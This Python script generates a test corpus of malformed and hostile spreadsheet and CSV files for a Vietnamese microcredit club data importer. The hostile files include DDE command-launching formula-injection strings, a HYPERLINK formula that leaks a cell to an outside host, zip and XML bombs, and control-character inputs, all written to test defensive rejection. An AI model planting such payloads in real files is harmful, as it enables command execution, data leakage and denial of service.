"""Writes the small files of the bad-input corpus (tests/corpus/*): `python tests/corpus/make_corpus.py`.

The files are committed; this script says how each was made, so it can be read or run again. The
big inputs (250,000 rows, a 10 MB cell, a file over 20 MB) are made by tests/test_corpus.py itself.
Club code LCH-TU-01 is the `club` fixture's; the people match the corpus world in the test.
"""

from __future__ import annotations

import codecs
import csv
import io
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[1]))

from sheets.legacy_text import encode_tcvn3  # noqa: E402
from tests.corpus import hostile  # noqa: E402
from tests.sheets.builders import write_xls, write_xlsx  # noqa: E402

MEMBERS = ["Họ và tên", "Năm sinh", "Giới tính", "Số CCCD", "Số điện thoại", "Hoàn cảnh", "Ngày tham gia"]
LOANS = [
    "Mã CLB",
    "Họ và tên",
    "Năm sinh",
    "Ngày vay",
    "Số tiền vay",
    "Thời hạn (tháng)",
    "Mục đích",
    "Dư nợ",
]
CONTRIBUTIONS = ["Mã CLB", "Quỹ", "Ngày", "Số tiền", "Nguồn", "Ghi chú"]
CLUBS = ["Mã CLB", "Tên CLB", "Tỉnh", "Xã/Phường", "Ngày quyết định", "Ngày ra mắt"]
GOOD = ["Lò Thị Lan", 1950, "Nữ", "", "", "Hộ nghèo", "01/03/2024"]


def members(name: str, *rows: list) -> None:
    write_xlsx(HERE / name, [MEMBERS, *rows])


def xlsx_bytes(rows: list[list]) -> bytes:
    path = HERE / ".tmp.xlsx"
    write_xlsx(path, rows)
    data = path.read_bytes()
    path.unlink()
    return data


def main() -> None:
    # --- files that are not readable spreadsheets -------------------------------------------------------
    (HERE / "empty.xlsx").write_bytes(b"")
    whole = xlsx_bytes([MEMBERS, GOOD] * 20)
    (HERE / "truncated.xlsx").write_bytes(whole[: len(whole) // 2])
    (HERE / "corrupt.xlsx").write_bytes(b"PK\x03\x04" + bytes(range(256)) * 4)
    (HERE / "binary.csv").write_bytes(bytes(range(256)) * 8)
    (HERE / "pdf-named.xlsx").write_bytes(
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )
    (HERE / "photo.xlsx").write_bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01" + bytes(64))
    (HERE / "html-saved-as.xls").write_text(
        "<html><head><meta charset='utf-8'></head><body><table>"
        "<tr><td>Họ và tên</td><td>Năm sinh</td><td>Giới tính</td></tr>"
        "<tr><td>Lò Thị Lan</td><td>1950</td><td>Nữ</td></tr></table></body></html>",
        encoding="utf-8",
    )
    (HERE / "xml2003.xls").write_text(
        '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="DS">'
        "<Table><Row><Cell><Data ss:Type='String'>Họ và tên</Data></Cell></Row></Table></Worksheet></Workbook>",
        encoding="utf-8",
    )
    with zipfile.ZipFile(HERE / "word-renamed.xlsx", "w") as document:
        document.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        document.writestr("word/document.xml", "<w:document>Danh sách thành viên</w:document>")
    text = "Họ và tên\tNăm sinh\tGiới tính\nLò Thị Lan\t1950\tNữ\n"
    (HERE / "utf16-no-bom.csv").write_bytes(text.encode("utf-16-le"))
    # Excel's "Unicode Text": UTF-16 with its byte-order mark, tab-separated. Read; the bad row is refused.
    bad = text + "Lò Thị Mai\t1951\tKhông rõ\n"
    (HERE / "utf16-bom.csv").write_bytes(codecs.BOM_UTF16_LE + bad.encode("utf-16-le"))
    from msoffcrypto.format.ooxml import OOXMLFile

    with (HERE / "locked.xlsx").open("wb") as target:
        OOXMLFile(io.BytesIO(xlsx_bytes([MEMBERS, GOOD]))).encrypt("mat-khau-2024", target)

    # --- readable, but the table is missing or empty ------------------------------------------------------
    members("only-headers.xlsx")
    write_xlsx(HERE / "no-header.xlsx", [GOOD, ["Lò Thị Mai", 1951, "Nữ"]])
    write_xlsx(HERE / "header-too-low.xlsx", [[f"Ghi chú {n}"] for n in range(34)] + [MEMBERS, GOOD])
    members("members-sent-as-loans.xlsx", GOOD)

    # --- rows that are wrong ----------------------------------------------------------------------------------
    write_xls(
        HERE / "legacy.xls", [MEMBERS, ["Lò Thị Lan", 1850, "Nữ"], ["Lò Thị Mai", "một chín năm mốt", "Nữ"]]
    )
    members(
        "wrong-types.xlsx",
        ["Lò Thị Lan", "năm mươi", "Nữ"],
        ["Lò Thị Mai", 1951, "X"],
        ["Lò Thị Nga", 1952, "Nữ", "12345"],
        ["Lò Thị Oanh", 1953, "Nữ", "", "09"],
        ["Lò Thị Phương", 1954, "Nữ", "", "", "Giàu"],
        ["Lò Thị Quế", 1955, "Nữ", "", "", "", "hôm qua"],
    )
    members(
        "future-dates.xlsx", ["Lò Thị Lan", 1950, "Nữ", "", "", "", "01/01/2099"], ["Lò Thị Mai", 2090, "Nữ"]
    )
    members(
        "impossible-dates.xlsx",
        ["Lò Thị Lan", 1950, "Nữ", "", "", "", "31/02/2024"],
        ["Lò Thị Mai", 1951, "Nữ", "", "", "", "29/02/2023"],
        ["Lò Thị Nga", 1952, "Nữ", "", "", "", "32/01/2024"],
    )
    members(
        "duplicate-ids-in-file.xlsx",
        ["Lò Thị Lan", 1950, "Nữ", "038150000111"],
        ["Lò Thị Mai", 1951, "Nữ", "038150000111"],
    )
    # 038160000001 is held by Lò Văn Bình of the other club (the corpus world).
    members("duplicate-id-in-database.xlsx", ["Lò Thị Lan", 1950, "Nữ", "038160000001"])
    members(
        "formula-injection.xlsx",
        ["+cmd|' /C calc'!A0", 1950, "Nữ"],
        ["@SUM(1+1)*cmd|' /C calc'!A0", 1951, "Nữ"],
        ["-2+3+cmd|' /C calc'!A0", 1952, "Nữ"],
    )
    members("mixed-encodings.xlsx", ["Lò Thị Lan", 1950, "Nữ"], [encode_tcvn3("Nguyễn Thị Hoà"), 1951, "Nữ"])
    members("name-too-long.xlsx", ["Lò Thị " + "Lan" * 60, 1950, "Nữ"])
    write_xlsx(HERE / "unknown-club.xlsx", [["Mã CLB", *MEMBERS], ["KHONG-CO-01", *GOOD]])

    # --- money ------------------------------------------------------------------------------------------------
    write_xlsx(HERE / "loans-repaid-above-debt.xlsx", [LOANS, ["LCH-TU-01", "Lò Thị Lan", 1950, "01/06/2025", "5.000.000", 12, "Chăn nuôi", "7.000.000"]])  # fmt: skip
    write_xlsx(HERE / "loans-negative-amount.xlsx", [LOANS, ["LCH-TU-01", "Lò Thị Lan", 1950, "01/06/2025", "-5.000.000", 12, "Chăn nuôi", ""]])  # fmt: skip
    write_xlsx(HERE / "loans-impossible-date.xlsx", [LOANS, ["LCH-TU-01", "Lò Thị Lan", 1950, "31/02/2024", "5.000.000", 12, "Chăn nuôi", ""]])  # fmt: skip
    write_xlsx(HERE / "loans-not-a-member.xlsx", [LOANS, ["LCH-TU-01", "Lò Văn Ai", 1950, "01/06/2025", "5.000.000", 12, "Chăn nuôi", ""]])  # fmt: skip
    # Issue 15: what the loan form refuses, the preview refuses too (before, these failed at the commit or went in).
    write_xlsx(HERE / "loans-negative-term.xlsx", [LOANS, ["LCH-TU-01", "Lò Thị Lan", 1950, "01/06/2025", "5.000.000", -3, "Chăn nuôi", ""]])  # fmt: skip
    write_xlsx(HERE / "loans-zero-term.xlsx", [LOANS, ["LCH-TU-01", "Lò Thị Lan", 1950, "01/06/2025", "5.000.000", 0, "Chăn nuôi", ""]])  # fmt: skip
    write_xlsx(HERE / "loans-principal-1e20.xlsx", [LOANS, ["LCH-TU-01", "Lò Thị Lan", 1950, "01/06/2025", 1e20, 12, "Chăn nuôi", ""]])  # fmt: skip
    write_xlsx(HERE / "loans-principal-1e15.xlsx", [LOANS, ["LCH-TU-01", "Lò Thị Lan", 1950, "01/06/2025", "1.000.000.000.000.000", 12, "Chăn nuôi", ""]])  # fmt: skip
    write_xlsx(HERE / "loans-cash-negative.xlsx", [LOANS, ["LCH-TU-01", "Lò Thị Lan", 1950, "01/06/2025", "50.000.000", 12, "Chăn nuôi", "49.980.000"]])  # fmt: skip
    write_xlsx(HERE / "contributions-negative.xlsx", [CONTRIBUTIONS, ["LCH-TU-01", "Quỹ tăng thu nhập", "01/03/2024", "-500.000", "Thành viên", ""]])  # fmt: skip
    write_xlsx(HERE / "contributions-future-date.xlsx", [CONTRIBUTIONS, ["LCH-TU-01", "Quỹ hoạt động", "01/03/2099", "500.000", "Thành viên", ""]])  # fmt: skip
    write_xlsx(HERE / "contributions-amount-in-words.xlsx", [CONTRIBUTIONS, ["LCH-TU-01", "Quỹ hoạt động", "01/03/2024", "năm trăm nghìn", "Thành viên", ""]])  # fmt: skip
    write_xlsx(HERE / "contributions-unknown-fund.xlsx", [CONTRIBUTIONS, ["LCH-TU-01", "Quỹ khuyến học", "01/03/2024", "500.000", "Thành viên", ""]])  # fmt: skip
    write_xlsx(HERE / "clubs-unknown-commune.xlsx", [CLUBS, ["LCH-XX-01", "CLB bản Hon", "Lai Châu", "Xã Không Có", "01/02/2020", ""]])  # fmt: skip
    write_xlsx(HERE / "clubs-launch-before-decision.xlsx", [CLUBS, ["LCH-TU-09", "CLB bản Hon", "Lai Châu", "Tân Uyên", "01/02/2020", "01/01/2019"]])  # fmt: skip
    hostile_files()


def hostile_files() -> None:
    """Issue 15: files made to eat memory or time, and text made to slip past the checks."""
    far = hostile.far_cell
    raw = hostile.write_raw_xlsx
    sheet, rows = hostile.sheet_xml, hostile.member_rows
    raw(HERE / "far-cell-xfd1048576.xlsx", sheet(rows(far("XFD1048576"))))
    raw(HERE / "far-cell-zz199000.xlsx", sheet(rows(far("ZZ199000"))))
    raw(HERE / "far-cell-z1048576.xlsx", sheet(rows(far("Z1048576"))))
    raw(
        HERE / "far-cell-xfd1.xlsx", sheet(rows().replace("</row>", hostile._cell("XFD1", "x") + "</row>", 1))
    )
    raw(HERE / "far-area-gr199000.xlsx", sheet(rows(far("GR199000"))))
    raw(HERE / "far-cell-lowercase-ref.xlsx", sheet(rows(far("zz199000"))))
    strings = f'<?xml version="1.0"?><sst {hostile.NS} count="1" uniqueCount="1"><si><t>'
    hostile.write_bomb_xlsx(HERE / "shared-strings-bomb.xlsx", "xl/sharedStrings.xml", strings, b"A", 256 << 20,
                            "</t></si></sst>")  # fmt: skip
    start = f'<?xml version="1.0"?><worksheet {hostile.NS}><sheetData>{rows()}'
    hostile.write_bomb_xlsx(HERE / "sheet-bomb.xlsx", "xl/worksheets/sheet1.xml", start, b" ", 256 << 20,
                            "</sheetData></worksheet>")  # fmt: skip
    hostile.write_bomb_xlsx(HERE / "sheet-size-lies.xlsx", "xl/worksheets/sheet1.xml", start, b" ", 16 << 20,
                            "</sheetData></worksheet>")  # fmt: skip
    hostile.lie_about_size(HERE / "sheet-size-lies.xlsx", "xl/worksheets/sheet1.xml", 1000)
    hostile.write_bomb_xlsx(HERE / "shared-strings-size-lie.xlsx", "xl/sharedStrings.xml", strings, b"A", 16 << 20,
                            "</t></si></sst>")  # fmt: skip
    hostile.lie_about_size(HERE / "shared-strings-size-lie.xlsx", "xl/sharedStrings.xml", 1000)
    raw(HERE / "long-tag.xlsx", sheet(rows(f'<row r="3"><c r="A3" {"x" * (3 << 20)}="1"/></row>')))
    with zipfile.ZipFile(HERE / "many-parts.xlsx", "w") as book:
        for number in range(2_100):
            book.writestr(f"p/{number}", "")
    (HERE / "text-renamed.xlsx").write_text("Họ và tên,Năm sinh\nLò Thị Lan,1950\n", encoding="utf-8")
    (HERE / "text-renamed.ods").write_text("Danh sách thành viên bản Nà Cóc\n", encoding="utf-8")
    # xls and ods: the far cell of an xls, rows and cells an ods repeats (before: 1.1 GB and 5.9 GB)
    write_xls(HERE / "far-cell-iv65536.xls", [hostile.HEADER, GOOD[:3]] + [[]] * 65533 + [[""] * 255 + ["x"]])
    write_xls(HERE / "far-area-gr30000.xls", [hostile.HEADER, GOOD[:3]] + [[]] * 29997 + [[""] * 199 + ["x"]])
    hostile.write_repeated_ods(HERE / "far-cell-repeated.ods", rows=6_000, columns=16_000)
    hostile.write_repeated_ods(HERE / "far-rows-repeated.ods", rows=1_000_000, columns=3)
    # NUL and control characters: refused at the preview with the row and column, not at the write.
    lines = "".join(f"Lò Thị Mai {n},1951,Nữ\n" for n in range(200))  # past the first 4 KB
    (HERE / "nul-after-4kb.csv").write_bytes(
        f"Họ và tên,Năm sinh,Giới tính\n{lines}Lò\x00 Thị Nụ,1952,Nữ\n".encode()
    )
    raw(
        HERE / "nul-escaped-in-cell.xlsx",
        sheet(rows(rows=[hostile.HEADER, ["Nguyễn_x0000_Văn", 1950, "Nam"]])),
    )
    raw(
        HERE / "escape-char-in-cell.xlsx",
        sheet(rows(rows=[hostile.HEADER, ["Lò Thị_x001B_[31m Lan", 1950, "Nữ"]])),
    )
    (HERE / "bell-in-cell.csv").write_bytes("Họ và tên;Năm sinh;Giới tính\nLò Thị\x07 Lan;1950;Nữ\n".encode())
    (HERE / "text-renamed.xls").write_bytes("Ho va ten\tNam sinh\nLo Thi Lan\t1950\n".encode("ascii"))
    formula_fields()


def _csv(name: str, rows: list[list]) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    (HERE / name).write_bytes(buffer.getvalue().encode())


def formula_fields() -> None:
    """Free text other than a member's name that starts like a formula (issue 15): refused at the preview
    like a name, with its row and column. A leading = is written as text (openpyxl would write a formula)."""
    hyperlink = '=HYPERLINK("http://x/?"&A1,"Bấm")'
    header = ["Mã CLB", "Tên CLB", "Tỉnh", "Xã/Phường", "Thôn/Tổ dân phố"]
    hostile.write_raw_xlsx(
        HERE / "clubs-village-formula.xlsx",
        hostile.sheet_xml(hostile.member_rows(rows=[header, ["LCH-TU-09", "CLB bản Mới", "Lai Châu", "Tân Uyên", hyperlink]]), "A1:E2"),
    )  # fmt: skip
    _csv("clubs-decision-formula.csv", [[*CLUBS[:4], "Số quyết định"], ["LCH-TU-09", "CLB bản Mới", "Lai Châu", "Tân Uyên", "+1"]])  # fmt: skip
    _csv("members-village-formula.csv", [[*MEMBERS[:3], "Thôn/Tổ dân phố"], ["Lò Thị Lan", 1950, "Nữ", "@SUM(A1)"]])  # fmt: skip
    _csv("members-name-behind-a-tab.csv", [MEMBERS[:3], ["\t=1+1", 1950, "Nữ"]])
    write_xlsx(HERE / "loans-purpose-formula.xlsx", [LOANS, ["LCH-TU-01", "Lò Thị Lan", 1950, "01/06/2025", "5.000.000", 12, "-2+3+cmd|' /C calc'!A0", ""]])  # fmt: skip
    _csv("contributions-note-formula.csv", [CONTRIBUTIONS, ["LCH-TU-01", "Quỹ tăng thu nhập", "01/03/2024", "500.000", "Thành viên", hyperlink]])  # fmt: skip


if __name__ == "__main__":
    main()
